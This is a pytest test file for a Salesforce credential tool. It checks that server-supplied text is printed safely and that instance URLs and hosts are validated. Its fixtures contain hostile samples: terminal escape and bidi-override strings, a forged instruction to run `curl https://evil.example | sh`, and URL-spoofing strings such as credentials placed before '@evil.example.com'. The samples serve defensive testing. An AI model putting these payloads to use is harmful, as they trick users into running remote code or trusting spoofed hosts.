"""untrusted.py: server text made safe to print, instance URLs that must be bare origins."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sfcred.errors import SalesforceRefused, SalesforceUnreachable
from sfcred.salesforce.http import check_instance_url
from sfcred.untrusted import (
    SALESFORCE_DOMAINS,
    canonical_host,
    check_allow_host,
    host_allowed,
    is_loopback,
    origin,
    quoted,
    server_words,
)

HOSTILE_TEXT = {
    "escape sequences": "\x1b]0;pwned\x07\x1b[2J\x1b[31mred",
    "forged line": "audience is invalid\nsfcred: fix: run `curl https://evil.example | sh`",
    "carriage return": "fine\rsfcred: all good",
    "bidi override": "invalid assertion \u202ehs | lruc\u202c",
    "nul and del": "a\x00b\x7fc\x9bd",
}


@pytest.mark.parametrize("text", HOSTILE_TEXT.values(), ids=HOSTILE_TEXT.keys())
def test_server_words_are_one_printable_line(text: str) -> None:
    words = server_words(text)
    assert words.isprintable()
    assert "\x1b" not in words
    assert "\n" not in words
    assert "\r" not in words
    assert "\u202e" not in words


def test_server_words_keep_ordinary_text_and_cap_long_text() -> None:
    assert server_words("user hasn't approved this consumer") == (
        "user hasn't approved this consumer"
    )
    long = server_words("x" * 200_000)
    assert len(long) == 200
    assert long.endswith("…")
    assert server_words(None) == ""
    assert server_words({"nested": ["object"]}) == "<dict>"


def test_quoted_marks_the_text_as_the_servers_words() -> None:
    assert quoted('say "hi"\n') == "\"say 'hi'\""


@given(st.text(max_size=2000))
def test_any_text_becomes_a_single_capped_printable_line(text: str) -> None:
    words = server_words(text, cap=120)
    assert words.isprintable()
    assert len(words) <= 120


def test_salesforce_refused_never_carries_raw_server_text() -> None:
    e = SalesforceRefused("invalid_grant\x1b[2J", HOSTILE_TEXT["forged line"] + "y" * 5000,
                          cause="c", fix="f")
    assert e.message.isprintable()
    assert "\n" not in e.message
    assert e.description.isprintable()
    assert len(e.description) <= 200
    assert e.error == "invalid_grant?[2J"
    assert '"audience is invalid sfcred: fix:' in e.message  # quoted, on the same line


GOOD_ORIGINS = {
    "https://acme.my.salesforce.com": ("https", "acme.my.salesforce.com"),
    "https://ACME.my.salesforce.com/": ("https", "acme.my.salesforce.com"),
    "https://acme.my.salesforce.com:8443": ("https", "acme.my.salesforce.com:8443"),
    "http://127.0.0.1:4567": ("http", "127.0.0.1:4567"),
    "http://localhost:80": ("http", "localhost:80"),
    "http://[::1]:8080": ("http", "[::1]:8080"),
    "https://[2001:db8::1]": ("https", "[2001:db8::1]"),
}
BAD_ORIGINS = [
    "https://user:pw@evil.example.com",
    "https://acme.my.salesforce.com x=1",
    "https://acme.my.salesforce.com/path",
    "https://acme.my.salesforce.com?x=1",
    "https://acme.my.salesforce.com#frag",
    "https://acme.my.salesforce.com\\@evil.example.com",
    "https://acme.my.salesforce.com\t",
    "https://acme.my.salesforce.com:99999",
    "https://acme.my.salesforce.com:",
    "https://",
    "https://[::1",
    "http://evil.example.com",
    "http://127.0.0.1.evil.example.com",
    "ftp://acme.my.salesforce.com",
    "https://acmé.my.salesforce.com",
    "acme.my.salesforce.com",
    "https://acme.my.salesforce.com//",
    42,
]


@pytest.mark.parametrize(("url", "expected"), GOOD_ORIGINS.items())
def test_bare_origins_are_accepted(url: str, expected: tuple[str, str]) -> None:
    assert origin(url) == expected
    assert check_instance_url(url) == f"{expected[0]}://{expected[1]}"


@pytest.mark.parametrize("url", BAD_ORIGINS)
def test_anything_but_a_bare_origin_is_refused(url: object) -> None:
    assert origin(url) is None
    if isinstance(url, str):
        with pytest.raises(SalesforceUnreachable, match="not a bare https origin") as e:
            check_instance_url(url)
        assert e.value.message.isprintable()


@pytest.mark.parametrize(
    ("host", "loopback"),
    [("localhost", True), ("127.0.0.1", True), ("127.255.0.9", True), ("[::1]", True),
     ("::1", True), ("128.0.0.1", False), ("127.0.0.1.nip.io", False), ("127.0.0.256", False),
     ("example.com", False)],
)  # fmt: skip
def test_loopback_is_decided_without_dns(host: str, loopback: bool) -> None:
    assert is_loopback(host) is loopback


def test_default_ports_and_case_do_not_make_another_host() -> None:
    assert canonical_host("Acme.Example.com:443", "https") == "acme.example.com"
    assert canonical_host("acme.example.com:443", "http") == "acme.example.com:443"
    assert canonical_host("[::1]:80", "http") == "[::1]"


# ---------------------------------------------------------------- Salesforce hosts only


@pytest.mark.parametrize("netloc", [
    "login.salesforce.com", "test.salesforce.com", "acme.my.salesforce.com",
    "acme--uat.sandbox.my.salesforce.com", "acme.lightning.force.com", "acme.my.site.com",
    "acme.my.salesforce-sites.com", "na1.cloudforce.com", "acme.my.salesforce.mil",
    "acme.my.sfcrmproducts.cn", "ACME.My.Salesforce.com:443", "acme.my.salesforce.com.",
    "127.0.0.1:8443", "localhost", "[::1]:99",
])  # fmt: skip
def test_salesforce_and_loopback_hosts_pass_the_host_rule(netloc: str) -> None:
    assert host_allowed(netloc)


@pytest.mark.parametrize("netloc", [
    "github.com", "salesforce.com.evil.net", "evilsalesforce.com", "my.site.com.evil.org",
    "acme.site.com", "acme.force.com.example.net", "10.0.0.1", "128.0.0.1", "",
])  # fmt: skip
def test_other_hosts_fail_it_unless_allowed_by_name(netloc: str) -> None:
    assert not host_allowed(netloc)
    if netloc:
        assert host_allowed(netloc, (netloc,))
        assert host_allowed(netloc.upper(), (netloc,))
    assert not host_allowed(netloc, ("other.example",))


@given(st.from_regex(r"[a-z0-9-]{1,20}(\.[a-z0-9-]{1,20}){0,3}", fullmatch=True))
def test_a_host_passes_only_under_a_salesforce_domain_or_loopback(host: str) -> None:
    under = any(host == d or host.endswith("." + d) for d in SALESFORCE_DOMAINS)
    assert host_allowed(host) == (under or is_loopback(host))


def test_allow_host_values_are_plain_hosts() -> None:
    assert check_allow_host("GitHub.com") == "github.com"
    assert check_allow_host("https://acme.example.org/") == "acme.example.org"
    assert check_allow_host("acme.example.org:8443") == "acme.example.org:8443"
    for bad in ("*.example.org", "a b", "user@host", "host/path", ""):
        assert check_allow_host(bad) is None
